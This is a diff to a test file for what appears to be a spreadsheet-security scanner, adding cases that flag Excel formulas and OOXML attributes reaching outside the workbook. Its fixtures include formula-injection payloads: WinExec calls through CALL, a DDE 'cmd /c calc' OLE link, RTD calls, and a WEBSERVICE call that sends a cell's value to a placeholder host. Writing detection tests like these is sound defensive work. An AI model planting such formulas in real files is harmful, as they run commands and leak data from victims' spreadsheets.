@@ -12,6 +12,8 @@ describe('calls that reach outside the workbook', () => {
     ['CALL("kernel32","WinExec","JCJ","calc",0)', 'CALL', 'runs'],
     ['REGISTER.ID("kernel32","WinExec")', 'REGISTER.ID', 'runs'],
     ['EVALUATE("R"&"TD(1)")', 'EVALUATE', 'runs'],
+    ['FILES("\\\\host\\share\\*")', 'FILES', 'runs'],
+    ['SEND.KEYS("%{F4}")', 'SEND.KEYS', 'runs'],
     ['1+_xlfn.WEBSERVICE("http://a.example/?"&A2)', 'WEBSERVICE', 'fetches'],
     ['_xlfn.image("https://a.example/p.png")', 'IMAGE', 'fetches'],
     ['IF(A1,_xlfn._xlws.FILTER(A:A,B:B),Image\n(A2))', 'IMAGE', 'fetches'],
@@ -45,12 +47,14 @@ describe('calls that reach outside the workbook', () => {
     }
   });
 
-  it('reads a linked OLE object’s source as a formula', () => {
+  it.each([
+    ['xl/worksheets/sheet1.xml', `<oleObjects><oleObject progId="Package" link="cmd|' /c calc'!A0" shapeId="1025"/>`],
+    ['xl/pivotCache/pivotCacheDefinition1.xml', '<cacheField name="x" formula="RTD(&quot;x&quot;,,1)"/>'],
+    ['xl/pivotTables/pivotTable1.xml', '<calculatedItem formula="RTD(&quot;x&quot;,,1)"/>'],
+  ])('reads the formulas in attributes of %s', (part, text) => {
     const report = new Report();
-    const check = partCheckFor('xl/worksheets/sheet1.xml', report);
-    check.write(
-      Buffer.from(`<oleObjects><oleObject progId="Package" link="cmd|' /c calc'!A0" shapeId="1025"/></oleObjects>`),
-    );
+    const check = partCheckFor(part, report);
+    check.write(Buffer.from(text));
     check.end();
     expect(report.findings.map((f) => f.code)).toEqual(['OOXML_DDE']);
   });
